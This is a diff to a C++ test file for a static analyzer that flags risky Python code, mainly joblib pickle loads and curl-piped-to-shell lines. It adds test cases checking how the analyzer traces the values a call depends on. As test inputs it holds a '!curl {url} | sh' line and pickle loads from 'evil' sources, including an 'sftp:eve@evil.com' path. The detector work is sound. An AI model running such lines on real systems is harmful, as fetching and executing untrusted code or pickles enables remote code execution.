@@ -150,10 +150,10 @@ CUPEL_TEST(valuesTellThatOthersStandThere)
 // A call stands on what it is given: whoever decided about it decided about that, too.
 CUPEL_TEST(valuesTellWhatACallIsGiven)
 {
-    const auto loads = [](std::string_view source) {
+    const auto loads = [](std::string_view source, std::string_view rule = "CUP-CODE-JOBLIB-LOAD") {
         const auto analysis = test::analyzed(code(source));
         const auto found = std::find_if(analysis.findings.begin(), analysis.findings.end(),
-            [](const Finding& finding) { return finding.rule == "CUP-CODE-JOBLIB-LOAD"; });
+            [rule](const Finding& finding) { return finding.rule == rule; });
         return found == analysis.findings.end() ? Finding() : *found;
     };
     const std::string head = "import joblib, os\n";
@@ -165,6 +165,14 @@ CUPEL_TEST(valuesTellWhatACallIsGiven)
              head + "folder = 'models'\nname = 'ours.pkl'\n" + tail + "name = 'other'\nprint(model)\n",
              head + "folder='models'\n\nname  =  \"ours.pkl\" # ours\n" + tail}) {
         CHECK_EQ(loads(same).values, own.values);
+    }
+    // Nor what happens to have the same name somewhere else.
+    for (const std::string other : {"def log(path):\n    folder = '/tmp'\n    print(folder, path)\nlog('x')\n",
+             "print([name for name in range(3)])\n", "key = lambda path: path\n",
+             "class Other:\n    folder = '/tmp'\n    def name(self):\n        path = 'x'\n        return path\n",
+             "cfg.names = '/tmp'\n", "def other():\n    for folder in []:\n        name = folder\n"}) {
+        CHECK_EQ(loads(head + "folder = 'models'\nname = 'ours.pkl'\n" + other + tail).values, own.values);
+        CHECK_EQ(loads(head + other + "folder = 'models'\nname = 'ours.pkl'\n" + tail + other).values, own.values);
     }
     // All that it hangs on, through names of names, loops, branches, functions and the end of the statement.
     for (const auto& [source, changed] : std::vector<std::pair<std::string, std::string>>{
@@ -189,18 +197,60 @@ CUPEL_TEST(valuesTellWhatACallIsGiven)
                  "def f():\n    return u\nu = 'b'\njoblib.load(f())\n"},
              {"d = []\nd.append('ours')\njoblib.load(d[0])\n", "d = []\nd.append('evil')\njoblib.load(d[0])\n"},
              {"model = 'a'\nf = open('model')\njoblib.load(f)\n", "model = 'a'\nf = open(model)\njoblib.load(f)\n"},
-             {"f = 'sftp:bob@ours.org'\njoblib.load(f)\n", "f = 'sftp:eve@evil.com'\njoblib.load(f)\n"}}) {
+             {"f = 'sftp:bob@ours.org'\njoblib.load(f)\n", "f = 'sftp:eve@evil.com'\njoblib.load(f)\n"},
+             {"if ours:\n    joblib.load(f)\n", "if True:\n    joblib.load(f)\n"},
+             {"if a:\n    pass\nelif ours:\n    joblib.load(f)\n", "if a:\n    pass\nelif b:\n    joblib.load(f)\n"},
+             {"while ours:\n    joblib.load(f)\n", "while True:\n    joblib.load(f)\n"},
+             {"class A(Ours):\n    def go(self):\n        joblib.load(self.f)\n",
+                 "class A(Evil):\n    def go(self):\n        joblib.load(self.f)\n"},
+             {"class A(Ours):\n    pass\njoblib.load(A().f)\n", "class A(Evil):\n    pass\njoblib.load(A().f)\n"},
+             {"def go(f='ours'):\n    joblib.load(f)\n", "def go(f='evil'):\n    joblib.load(f)\n"},
+             {"match ours:\n    case [f]:\n        joblib.load(f)\n",
+                 "match evil:\n    case [f]:\n        joblib.load(f)\n"},
+             {"match x:\n    case [f, 'a']:\n        pass\njoblib.load(f)\n",
+                 "match x:\n    case ['a', f]:\n        pass\njoblib.load(f)\n"},
+             {"f = !cat ours.txt\njoblib.load(f[0])\n", "f = !cat evil.txt\njoblib.load(f[0])\n"},
+             {"u = 'a'\nf = !cat {u}\njoblib.load(f[0])\n", "u = 'b'\nf = !cat {u}\njoblib.load(f[0])\n"},
+             {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n", "%env F=evil.pkl\njoblib.load(os.environ['F'])\n"},
+             {"f = 'ours'\n%time m = joblib.load(f)\n", "f = 'evil'\n%time m = joblib.load(f)\n"},
+             {"from ours import *\njoblib.load(f)\n", "from evil import *\njoblib.load(f)\n"},
+             {"def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('ours')\n",
+                 "def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('evil')\n"},
+             {"class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
+              "joblib.load(self.f)\nA('ours').go()\n",
+                 "class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
+                 "joblib.load(self.f)\nA('evil').go()\n"},
+             {"class A:\n    f = 'ours'\njoblib.load(A.f)\n", "class A:\n    f = 'evil'\njoblib.load(A.f)\n"},
+             {"def set():\n    global f\n    f = 'ours'\nset()\njoblib.load(f)\n",
+                 "def set():\n    global f\n    f = 'evil'\nset()\njoblib.load(f)\n"},
+             {"d = {}\ndef fill():\n    d['f'] = 'ours'\nfill()\njoblib.load(d['f'])\n",
+                 "d = {}\ndef fill():\n    d['f'] = 'evil'\nfill()\njoblib.load(d['f'])\n"},
+             {"def fill():\n    d.f.append('ours')\nfill()\njoblib.load(d.f[0])\n",
+                 "def fill():\n    d.f.append('evil')\nfill()\njoblib.load(d.f[0])\n"},
+             {"def outer():\n    f = 'ours'\n    def inner():\n        joblib.load(f)\n    inner()\n",
+                 "def outer():\n    f = 'evil'\n    def inner():\n        joblib.load(f)\n    inner()\n"},
+             {"for f in (x + '.pkl' for x in ['ours']):\n    joblib.load(f)\n",
+                 "for f in (x + '.pkl' for x in ['evil']):\n    joblib.load(f)\n"},
+             {"setattr(c, 'f', 'ours')\njoblib.load(c.f)\n", "setattr(c, 'f', 'evil')\njoblib.load(c.f)\n"},
+             {"d = []\nx = 1\nd.append('ours')\nd = d + [2]\njoblib.load(d[0])\n",
+                 "d = []\nx = 1\nd.append('evil')\nd = d + [2]\njoblib.load(d[0])\n"}}) {
         const auto before = loads(head + source);
         const auto after = loads(head + changed);
         CHECK_EQ(after.fingerprint, before.fingerprint);
         CHECK(after.values != before.values);
     }
+    // So does what stands in a shell line.
+    const auto piped = [&loads](const std::string& url) {
+        return loads("url = '" + url + "'\n!curl {url} | sh\n", "CUP-CODE-CURL-PIPE-SHELL").values;
+    };
+    CHECK_EQ(piped("https://a.example.org").size(), 19U);
+    CHECK(piped("https://a.example.org") != piped("https://b.example.org"));
     // Broken code has functions and calls without a name.
     CHECK_EQ(loads(head + "def (x):\n    joblib.load(x)\n").values.size(), 19U);
     CHECK_EQ(loads(head + "joblib.load(f)\ndef").values.size(), 19U);
     // What cannot be followed to its end: all of the file counts.
     std::string many = head + "f = ''\n";
-    for (int i = 0; i < 400; ++i) {
+    for (int i = 0; i < 1'200; ++i) {
         many += "f += 'a'\n";
     }
     CHECK(loads(many + "joblib.load(f)\n").values != loads(many + "joblib.load(f)\nx = 1\n").values);
